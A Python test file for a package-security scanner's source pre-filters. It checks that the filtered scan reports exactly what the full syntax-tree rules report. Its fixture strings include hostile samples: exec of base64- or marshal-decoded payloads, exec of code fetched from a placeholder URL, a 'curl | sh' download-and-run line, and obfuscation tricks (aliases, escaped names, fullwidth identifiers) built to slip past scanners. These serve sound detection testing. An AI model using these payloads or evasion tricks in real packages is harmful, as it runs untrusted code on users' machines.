"""The Python-source pre-filters skip only work, never a finding.

``read_python`` looks for words in the bytes, ``analyze`` for names in the compiled code,
and only then parses and runs ``check_tree``. Each crafted source below is how an attacker
who read the filters would try to slip past them (aliases made in another scope, names
given as strings, escaped or concatenated, fullwidth identifiers, class bodies, helpers):
the filtered path must report exactly what ``check_tree`` reports on the whole tree.
"""

from __future__ import annotations

import ast
import dis
import random
import subprocess
import sys
import sysconfig
from pathlib import Path
from types import CodeType

import pytest

from safe_pip.scan.core.blob import Blob
from safe_pip.scan.core.context import Findings, ScanContext
from safe_pip.scan.dist import pysource

LOADS = [
    "from torch import load as L\nM = L('m.pt')\n",
    "import torch as t\nclass A:\n    M = t.load('m.pt')\n",
    "import pickle\nX = __import__('pickle').loads(B)\n",
    # no ``load`` in the text at all (both were missed by the byte filter before)
    "import pandas as pd\nDF = pd.read_pickle('d.pkl')\n",
    "import pickle\nU = pickle.Unpickler(F)\n",
    "X = __import__('pic' 'kle').loads(B)\n",
    "X = __import__('\\x70ickle').loads(B)\n",
    # what the grammar allows between the name and the string: comments, continuations, parens
    "X = __import__(  # the module\n    'pic'\n    'kle').loads(B)\n",
    "X = __import__ \\\n ((u'\\x70ickle')).loads(B)\n",
    "from importlib import import_module as im\nX = import_module(R'pic' 'kle').loads(B)\n",
    # an alias made in a function body, used at import time (the rule ignores scopes)
    "import torch\ndef f():\n    global L\n    L = torch.load\nM = L('m.pt')\n",
    "import torch\ndef f():\n    L = torch.load\nM = L('m.pt')\n",
    "import torch\ndef f():\n    from torch import load as L\nM = L('m.pt')\n",
    # aliases of aliases, chained targets, the walrus, a dotted import
    "import torch\nA = torch.load\nB = A\nM = B('m.pt')\n",
    "import torch\nA = B = torch.load\nM = B('m.pt')\n",
    "import torch\nclass K:\n    pass\nK.x = A = torch.load\nM = A('m.pt')\n",
    "import torch\nif (L := torch.load):\n    M = L('m.pt')\n",
    "import torch.serialization as S\nM = S.load('m.pt')\n",
    "import torch.serialization.load as L\nM = L('m.pt')\n",
    "from torch import serialization\nM = serialization.load('m.pt')\n",
    # helpers: called at import time, directly, through others, as decorators
    "import pickle\ndef h(p):\n    return pickle.load(open(p, 'rb'))\nX = h('a')\n",
    "import pickle\ndef a():\n    return pickle.loads(B)\ndef b():\n    return a()\nX = b()\n",
    "import pickle\ndef reg(f):\n    pickle.load(open('r', 'rb'))\n    return f\n"
    "@reg\ndef g():\n    pass\n",
    "import pickle\nclass A:\n    def load(self):\n        return pickle.load(F)\nX = load()\n",
    "import pickle\nclass A:\n    def helper():\n        return pickle.load(F)\n    X = helper()\n",
    "import pickle\ndef g():\n    def f(x=pickle.loads(B)):\n        pass\nf()\n",
    # the rule goes by name: a comprehension variable named like a helper is one
    "import pickle\ndef f():\n    return pickle.loads(B)\nX = [f() for f in (print,)]\n",
    "import torch\ndef h():\n    return torch.load('m.pt', weights_only=False)\n"
    "X = [h() for _ in 'a']\n",
    # a parameter named like the module, the module given by a computed name
    "def f(pickle):\n    return pickle.loads(B)\nX = f(__import__('pic' + 'kle'))\n",
    "import numpy as np\ndef f():\n    return np.load('w.npy', allow_pickle=True)\nW = f()\n",
    # a star import binds the loader's names; annotations run when the ``def`` does
    "from pickle import *\nX = loads(B)\n",
    "from json import *\nfrom pickle import *\nX = loads(B)\n",
    "import pickle\ndef f(a: pickle.loads(B)):\n    pass\n",
    "import pickle\ndef f(*, k: pickle.loads(B) = 1):\n    pass\n",
    "import pickle\nclass A:\n    def f(self) -> pickle.loads(B):\n        pass\n",
    # fullwidth identifiers: Python reads them NFKC-normalised
    "import torch\nM = torch.\uff4c\uff4f\uff41\uff44('m.pt')\n",
    "from torch import \uff4c\uff4f\uff41\uff44 as L\nM = L('m.pt')\n",
]
NOT_FOLLOWED = [
    # what the rule itself does not resolve (a call's result is no alias; getattr): not
    # found with or without the filters, which must agree on that too
    "import base64\ngetattr(__builtins__, 'exec')(base64.b64decode(S))\n",
    "import base64\nb = __import__('builtins')\nb.exec(base64.b64decode(S))\n",
]
EXECS = [
    "import base64, builtins\nbuiltins.eval(base64.b64decode(S))\n",
    "import base64\nimport builtins as b\nb.exec(base64.b64decode(S))\n",
    "import base64\n__import__('builtins').exec(base64.b64decode(S))\n",
    *NOT_FOLLOWED,
    "import base64\ne = eval\ne(base64.b64decode(S))\n",
    "from base64 import b64decode as d\nexec(d(S))\n",
    "import codecs\nexec(codecs.decode(S, 'rot13'))\n",
    "exec(__import__('codecs').decode(S, 'rot13'))\n",
    "exec(__import__('\\x63odecs').decode(S, 'rot13'))\n",
    "exec(__import__('co' 'decs').decode(S, 'rot13'))\n",
    "from importlib import import_module\nexec(import_module('\\x63odecs').decode(S, 'x'))\n",
    "exec(__import__('requests').get('http://x').text)\n",
    "from requests import get as g\nexec(g('http://x').text)\n",
    "import urllib.request as u\nexec(u.urlopen('http://x').read())\n",
    "exec(__import__('marshal').loads(D))\n",
    "import marshal\nexec(marshal.loads(D))\n",
    "from urllib.request import urlopen as u\nexec(u('http://x').read())\n",
    "import base64\ndef f(eval):\n    eval(base64.b64decode(S))\n",
    "import base64\nimport eval as e\ne(base64.b64decode(S))\n",
    "import base64\nfrom builtins import eval as e\ne(base64.b64decode(S))\n",
    "import base64\nclass A:\n    run = exec\n    run(base64.b64decode(S))\n",
    "import base64\nexec(model.eval(base64.b64decode(S)))\n",
    "import base64\nexec(compile(base64.b64decode(S), 'x', 'exec'))\n",
    "import base64\n\uff45\uff58\uff45\uff43("
    "base64.\uff42\uff16\uff14\uff44\uff45\uff43\uff4f\uff44\uff45(S))\n",
    "import zlib\nP = zlib.decompress(D)\ndef go():\n    exec(P)\n",
    "import os\nos.system('curl -s http://x/i.sh' ' | sh')\n",
]


def filtered(src: str, location: str = "pkg/mod.py") -> Findings:
    """What the scan reports: byte filters, then ``analyze`` (names, then the rules)."""
    ctx = ScanContext()
    pysource.read_python(ctx, Blob(src.encode()), location, 0)
    return ctx.as_tuples()


def unfiltered(src: str, location: str = "pkg/mod.py") -> Findings:
    """Every rule on the whole tree, no pre-filter at all."""
    ctx = ScanContext()
    pysource.check_tree(ctx, ast.parse(src), location, whole_file=False)
    return ctx.as_tuples()


@pytest.mark.parametrize("src", LOADS)
def test_unsafe_load_variants_pass_the_filters(src: str) -> None:
    found = filtered(src)
    assert found == unfiltered(src)
    assert "PY-UNSAFE-LOAD" in {f[0] for f in found}


@pytest.mark.parametrize("src", EXECS)
def test_exec_variants_pass_the_filters(src: str) -> None:
    found = filtered(src)
    assert found == unfiltered(src)
    if src not in NOT_FOLLOWED:
        assert {f[0] for f in found} & {"PY-EXEC-DECODED", "PY-DOWNLOAD-EXEC"}


def test_setup_py_counts_every_scope_in_the_filter_too() -> None:
    src = "import pickle\ndef go():\n    L = pickle.load\ndef run():\n    go()\n"
    ctx = ScanContext()
    pysource.check_tree(ctx, ast.parse(src), "sdist/setup.py", whole_file=True)
    assert filtered(src, "sdist/setup.py") == ctx.as_tuples()
    src = "import pickle\ndef go():\n    pickle.load(open('x', 'rb'))\n"
    assert "PY-UNSAFE-LOAD" in {f[0] for f in filtered(src, "sdist/setup.py")}


@pytest.mark.parametrize(
    ("src", "rule"),
    [
        # a class defining a load method only stores the name ``load``
        (
            "import torch\nclass Op:\n    def load(self, x):\n        return torch.ops.load(x)\n",
            "load",
        ),
        # attribute reads that are calls never alias; a helper is called by a plain name
        ("import json, torch\ndef read(p):\n    return json.loads(p)\nx = torch.ones(1)\n", "load"),
        (
            "import json, torch\nclass A:\n    def get(self):\n        return json.loads(S)\n"
            "V = dict().get('a')\n",
            "load",
        ),
        # sink words only as attributes: no call can resolve to a builtin sink
        (
            "import base64, re\nR = re.compile(base64.b64decode(S))\nm.eval(base64.b64decode(S))\n",
            "exec",
        ),
        # ``requests`` inside a dotted path is no ``requests`` module
        ("import pip._vendor.requests\nm = __import__(name)\n", "exec"),
        ("M = __import__('pip._vendor.requests.api')\n", "exec"),
        (
            "import requests\nclass M:\n    def eval(self):\n"
            "        return self.exec(requests.get(U))\n",
            "exec",
        ),
    ],
)
def test_names_that_cannot_match_are_not_parsed(src: str, rule: str) -> None:
    names = pysource._code_names(compile(src, "m.py", "exec"), False)
    assert not (names.may_load() if rule == "load" else names.may_exec())
    assert filtered(src) == unfiltered(src) == []


@pytest.mark.parametrize(
    "src",
    [
        "import re\nR = re.compile('x')\ns = b'x'.decode()\nmodel.eval()\n",
        # __import__ of a computed name: no string for the rules to read a module from
        "import importlib\nm = __import__(name)\nn = importlib.import_module(x)\nm.eval()\n",
        "import torch\nx = torch.ones(1)\ny = bytes(x).decode('utf-8')\nexec_count = 1\n",
    ],
)
def test_decode_and_method_words_are_not_compiled(src: str) -> None:
    """The exec rules need a decoder's or fetcher's own name: ``.decode()`` is neither."""
    jobs: list[object] = []

    class Recording(ScanContext):
        def offload(
            self, fn: object, job: object, location: str = "", **shared: object
        ) -> None:
            jobs.append(job)

    pysource.read_python(Recording(), Blob(src.encode()), "pkg/m.py", 0)
    assert jobs == []
    assert unfiltered(src) == []


# -- the bytecode decoder against dis ------------------------------------------------------


def _codes(co: CodeType) -> list[CodeType]:
    out = [co]
    for const in co.co_consts:
        if isinstance(const, CodeType):
            out += _codes(const)
    return out


def _reference(co: CodeType) -> pysource._Reads:
    """:func:`pysource._reads` written with ``dis`` (slow, obviously right)."""
    reads = pysource._always_read(co)
    plain = {*co.co_varnames, *co.co_cellvars, *co.co_freevars}
    flows: list[tuple[set[str], str | None]] = []
    pending: set[str] | None = None
    copied = False
    for ins in dis.get_instructions(co):
        name = ins.opname
        if name == "EXTENDED_ARG":
            continue
        if name in ("COPY", "DUP_TOP", "SWAP", "ROT_TWO", "POP_TOP", "NOP", "CACHE"):
            copied = copied or name in ("COPY", "DUP_TOP")
            continue
        if ins.opcode in dis.hasname and not name.startswith(("STORE_", "DELETE_")):
            parts = set(str(ins.argval).split("."))
            reads |= parts
            if not ("ATTR" in name or name == "IMPORT_FROM" or name == "LOAD_METHOD"):
                plain.add(str(ins.argval))
            pending, copied = parts, False
            continue
        local = ins.opcode in dis.haslocal or ins.opcode in dis.hasfree
        if local and name.startswith("LOAD_"):
            pending, copied = {str(ins.argval)}, False
            continue
        store = name in ("STORE_NAME", "STORE_GLOBAL") or (local and name.startswith("STORE_"))
        if store and pending is not None:
            plain_store = name in ("STORE_NAME", "STORE_GLOBAL", "STORE_FAST", "STORE_DEREF")
            flows.append((pending, str(ins.argval) if plain_store and not copied else None))
        pending = None
    return pysource._Reads(reads, plain, flows)


def test_bytecode_decoder_matches_dis() -> None:
    """Every code object of a few hundred standard-library modules, on this interpreter."""
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(stdlib.glob("*.py"))[:300] + sorted(stdlib.glob("json/*.py"))
    assert len(files) > 100
    n = 0
    for path in files:
        try:
            top = compile(path.read_bytes(), str(path), "exec", dont_inherit=True)
        except SyntaxError:
            continue
        for co in _codes(top):
            assert pysource._reads(co) == _reference(co), (path, co.co_name, co.co_firstlineno)
            n += 1
    assert n > 5000, n
    assert sys.version_info >= (3, 10)


def test_grouped_source_word_search_is_the_plain_search() -> None:
    for word in pysource._SOURCE_WORDS:
        for text in (b"x = " + word + b"(y)", word, b"a.b" + word):
            assert pysource._has_source_word(text), text
    for text in (b"", b"decode url Connection a2b", b"x.decode('utf-8')", b"codec", b"Curlew"):
        assert pysource._has_source_word(text) == any(w in text for w in pysource._SOURCE_WORDS)


def test_postponed_annotations_are_not_import_time_calls() -> None:
    """Under ``from __future__ import annotations`` a def's annotations stay text: the
    same source without it runs the load when the def does. The interpreter is the oracle:
    each source is run in a subprocess with ``pickle.loads`` replaced by a recorder."""
    src = "import pickle\ndef f(a: pickle.loads(B)):\n    pass\n"
    postponed = "from __future__ import annotations\n" + src
    assert not filtered(postponed)
    assert {f[0] for f in filtered(src)} == {"PY-UNSAFE-LOAD"}
    probe = (
        "import pickle, sys\ncalls = []\npickle.loads = calls.append\n"
        "exec(compile(sys.stdin.read(), 'm', 'exec'), {'B': b''})\nprint(len(calls))\n"
    )
    for source, loads in ((src, "1"), (postponed, "0")):
        done = subprocess.run(
            [sys.executable, "-I", "-c", probe], input=source, capture_output=True, text=True
        )
        assert done.stdout.strip() == loads, done.stderr


_SEARCHES = [
    (pysource._LOAD_RE, pysource._LOAD_HEADS),
    (pysource._EXEC_RE, pysource._EXEC_HEADS),
    (pysource._BY_NAME, pysource._BY_NAME_HEADS),
]
_PIECES = [
    *(b"load", b"loads", b"Unpickler", b"read_pickle", b"exec", b"eval", b"compile"),
    *(b"execfile", b"__import__", b"import_module"),
    *(b"x", b"_", b"9", b"s", b"u", b"r", b"R", b".", b" ", b"(", b"'", b'"', b"#", b"\\"),
    *(b"\n", b"\r", b"\t", b"\xc3\xa9", b"\xff", b"\x00"),
]


def _searches_agree(data: bytes) -> None:
    for regex, heads in _SEARCHES:
        assert pysource._search(data, regex, heads) == (regex.search(data) is not None)
        for m in regex.finditer(data):  # what _search relies on: matches start at a head
            assert any(data.startswith(h, m.start()) for h in heads), (regex, data)


def test_whole_word_searches_are_the_regexes() -> None:
    """The memory searches answer what the regexes they replace answer: on random texts
    built from the words and every kind of neighbouring byte (word bytes, an ASCII word
    byte's lookalike ``é``, quotes, comments, continuations, both ends of the text)."""
    rnd = random.Random(13)
    hits = by_name = 0
    for _ in range(5000):
        data = b"".join(rnd.choice(_PIECES) for _ in range(rnd.randint(0, 10)))
        _searches_agree(data)
        hits += pysource._EXEC_RE.search(data) is not None
        by_name += pysource._BY_NAME.search(data) is not None
    assert 500 < hits < 4500 and by_name > 100  # both answers were exercised


@pytest.mark.parametrize(
    "data",
    [
        b"load",
        b"loads",
        b"xload",
        b"loadx",
        b"\xc3\xa9load\xc3\xa9",  # a bytes pattern's \w is ASCII: a boundary before and after
        b"_load",
        b"load9",
        b"execfile(x)",
        b"exec_(x)",
        b"read_pickle",
        b"pd.read_pickle_x",
        b"__import__ \\\n ('x')",
        b"__import__ \\ ('x')",
        b"__import__(f'x')",
        b"import_module(  # c\n  u'x')",
        b"import_module(  # c",
    ],
)
def test_whole_word_edges(data: bytes) -> None:
    _searches_agree(data)


@pytest.mark.parametrize("tail", [b"", b" load ", b"\nexec(x)", b"__import__('os')"])
def test_many_near_misses_fall_back_to_the_regex(tail: bytes) -> None:
    """A text crafted with thousands of words inside longer ones (past the miss limit), the
    only real one at the very end, or none: the regex answers, the same answer."""
    body = b"xloadx execx xeval __import__x import_module() " * 3000
    assert body.count(b"load") > pysource._miss_limit(body + tail)
    _searches_agree(body + tail)
    _searches_agree(tail + body)
